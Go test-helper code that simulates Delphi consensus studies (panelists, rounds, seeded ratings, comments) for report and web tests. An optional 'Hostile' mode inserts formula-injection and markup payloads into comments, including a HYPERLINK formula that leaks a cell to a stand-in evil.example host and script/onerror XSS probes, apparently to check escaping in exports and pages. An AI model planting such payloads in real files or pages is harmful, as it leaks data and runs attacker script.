// Package reporttest runs simulated Delphi studies through the domain (internal/delphi), for
// the report tests, the web tests and demos: a panel, rounds opened with the defaults, answers
// from a seeded generator, submissions and closes, with a clock the caller moves. The same
// options give the same answers, so the snapshots (and hence every export) are reproducible.
package reporttest

import (
	"context"
	_ "embed"
	"fmt"
	"math"
	"math/rand/v2"
	"time"

	"github.com/cart-cd/delphi/internal/delphi"
)

// Fixture is the definition of the fixed study of the golden tests.
//
//go:embed fixture.yaml
var Fixture []byte

// Options describe a simulated study.
type Options struct {
	// Survey names a bundled survey ("cart-cd"); Definition uploads one instead (Fixture).
	Survey     string
	Definition []byte
	Title      string
	Panelists  int
	Rounds     int // rounds to run and close (default 2)
	Seed       uint64
	// Advance moves the service's clock; it is called between steps so that dates differ.
	Advance func(time.Duration)
	// Hostile adds comments meant to attack spreadsheets and pages (formula injection, markup).
	Hostile bool
	// Panel, if set, may change the i-th panelist before the panel is added (group, country).
	Panel func(i int, p *delphi.PanelistInput)
	// Suggestions is how many panelists suggest an item in round 1 (hostile text when Hostile).
	Suggestions int
}

// Countries of the simulated panel.
var Countries = []string{"DE", "FR", "IT", "ES", "NL", "BE", "SE", "PL"}

// Run creates the study and runs opts.Rounds rounds; it returns the study id.
func Run(ctx context.Context, svc *delphi.Service, opts Options) (int64, error) {
	if opts.Rounds == 0 {
		opts.Rounds = 2
	}
	if opts.Advance == nil {
		opts.Advance = func(time.Duration) {}
	}
	st, err := svc.CreateStudy(ctx, delphi.System, delphi.CreateStudyInput{Survey: opts.Survey, Definition: opts.Definition,
		Title: opts.Title, Contact: "study-office@example.org"})
	if err != nil {
		return 0, fmt.Errorf("create study: %w", err)
	}
	def := st.Def
	rows := make([]delphi.PanelistInput, opts.Panelists)
	for i := range rows {
		rows[i] = delphi.PanelistInput{Name: fmt.Sprintf("Expert Name%03d", i+1), Email: fmt.Sprintf("expert%03d@hospital.example.org", i+1),
			Group: def.Groups[i%len(def.Groups)].ID, Country: Countries[(i/len(def.Groups))%len(Countries)], Language: "en"}
		if opts.Panel != nil {
			opts.Panel(i, &rows[i])
		}
	}
	if _, err := svc.AddPanelists(ctx, delphi.System, st.ID, rows); err != nil {
		return 0, fmt.Errorf("add panel: %w", err)
	}
	rng := rand.New(rand.NewPCG(opts.Seed, 0x5eed))
	items := def.Items()
	// latent importance per item, and per item one group that sees it differently
	mu := make(map[string]float64, len(items))
	odd := make(map[string]int, len(items))
	for i, it := range items {
		mu[it.ID] = 2.5 + 6.5*rng.Float64()
		if i%3 == 0 {
			mu[it.ID] = 7.2 + 1.5*rng.Float64() // a good share reaches consensus in
		}
		if i%7 == 3 {
			mu[it.ID] = 1.8 + rng.Float64() // and some out
		}
		odd[it.ID] = -1
		if i%5 == 2 {
			odd[it.ID] = rng.IntN(len(def.Groups))
		}
	}
	gi := map[string]int{}
	for i, g := range def.Groups {
		gi[g.ID] = i
	}
	prev := map[string]map[string]int{} // panelist pseudonym → item → round-1 rating
	var prevMedian map[string]float64
	suggested := 0
	for n := 1; n <= opts.Rounds; n++ {
		r, err := svc.OpenRound(ctx, delphi.System, st.ID, delphi.OpenRoundInput{})
		if err != nil {
			return 0, fmt.Errorf("open round %d: %w", n, err)
		}
		opts.Advance(2 * time.Hour)
		links, err := svc.IssueInvitations(ctx, delphi.System, st.ID, r.Number, nil, "http://delphi.test")
		if err != nil {
			return 0, fmt.Errorf("invite round %d: %w", n, err)
		}
		stNow, err := svc.Study(ctx, st.ID)
		if err != nil {
			return 0, err
		}
		ritems, err := svc.Items(ctx, stNow, stNow.Round(n))
		if err != nil {
			return 0, err
		}
		sums := map[string][]int{}
		for k, l := range links {
			opts.Advance(time.Minute)
			if rng.Float64() < 0.12 { // does not take part this round
				continue
			}
			e, err := svc.Expert(ctx, l.Token)
			if err != nil {
				return 0, err
			}
			if !e.Panelist.Consented {
				if err := svc.Consent(ctx, e, "sim"); err != nil {
					return 0, err
				}
				if e, err = svc.Expert(ctx, l.Token); err != nil {
					return 0, err
				}
			}
			if n == 1 && suggested < opts.Suggestions {
				label, why := fmt.Sprintf("Suggested item %d", suggested+1), "missing from the list"
				if opts.Hostile {
					label += ` <img src=x onerror=alert(1)>`
					why = `=HYPERLINK("http://evil.example") <b>bold</b>`
				}
				if _, err := svc.Suggest(ctx, e, label, why); err != nil {
					return 0, fmt.Errorf("suggest: %w", err)
				}
				suggested++
			}
			pid := e.Panelist.Pseudonym
			if prev[pid] == nil {
				prev[pid] = map[string]int{}
			}
			g := gi[e.Panelist.Group]
			var as []delphi.Answer
			for j, it := range ritems {
				a := delphi.Answer{Item: it.ID}
				u := rng.Float64()
				switch {
				case u < 0.03:
					a.Unable = true
				case u < 0.05:
					// left blank
				default:
					m := mu[it.ID]
					if odd[it.ID] == g {
						m = 10 - m
					}
					x := m + 1.4*rng.NormFloat64()
					if old, ok := prev[pid][it.ID]; ok && prevMedian != nil {
						// round 2 and later: drift towards the panel's median
						x = float64(old) + 0.5*(prevMedian[it.ID]-float64(old)) + 0.6*rng.NormFloat64()
					}
					v := int(math.Round(math.Max(1, math.Min(9, x))))
					if old, ok := prev[pid][it.ID]; ok && abs(old-v) >= 2 && rng.Float64() < 0.5 {
						a.Reason = reasons[rng.IntN(len(reasons))]
					}
					a.Rating = &v
					prev[pid][it.ID] = v
					sums[it.ID] = append(sums[it.ID], v)
					switch {
					case v >= 7 && it.ProposedTier == "expansion" && rng.Float64() < 0.7:
						a.Placement = "expansion"
					case v >= 7:
						a.Placement = "core"
					case v >= 4:
						a.Placement = "expansion"
					default:
						a.Placement = "not_needed"
					}
				}
				if rng.Float64() < 0.08 {
					a.Comment = comments[rng.IntN(len(comments))]
				}
				if opts.Hostile && k == 0 && j == 0 && n == 1 {
					a.Comment = `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`
				}
				if opts.Hostile && k == 1 && j == 0 && n == 1 {
					a.Comment = `<script>alert("x")</script> -2+3 @SUM(A1)`
				}
				as = append(as, a)
			}
			if _, err := svc.SaveAnswers(ctx, e, as); err != nil {
				return 0, fmt.Errorf("round %d: save answers: %w", n, err)
			}
			if _, err := svc.Submit(ctx, e); err != nil {
				return 0, fmt.Errorf("round %d: submit: %w", n, err)
			}
		}
		opts.Advance(7 * 24 * time.Hour)
		if _, err := svc.CloseRound(ctx, delphi.System, st.ID, n); err != nil {
			return 0, fmt.Errorf("close round %d: %w", n, err)
		}
		opts.Advance(24 * time.Hour)
		prevMedian = map[string]float64{}
		for id, xs := range sums {
			prevMedian[id] = median(xs)
		}
		if n < opts.Rounds {
			if _, err := svc.ProposeNextRound(ctx, st.ID); err != nil {
				if delphi.ErrorCode(err) == delphi.EConflict {
					break
				}
				return 0, err
			}
		}
	}
	return st.ID, nil
}

var comments = []string{
	"Essential for comparing products across centres.",
	"Hard to collect reliably outside trials.",
	"Only relevant for some indications.",
	"Should be graded with the ASTCT criteria.",
	"Registries already hold this; avoid double entry.",
	"Patients care about this a lot.",
	"Definition needs to be clearer before it can be rated.",
	"Useful, but belongs in a module rather than the core set.",
}

var reasons = []string{
	"Persuaded by the panel's comments.",
	"Re-read the definition.",
	"Changed after discussing with colleagues.",
}

func abs(x int) int {
	if x < 0 {
		return -x
	}
	return x
}

func median(xs []int) float64 {
	s := append([]int(nil), xs...)
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j] < s[j-1]; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
	n := len(s)
	if n == 0 {
		return 5
	}
	if n%2 == 1 {
		return float64(s[n/2])
	}
	return float64(s[n/2-1]+s[n/2]) / 2
}
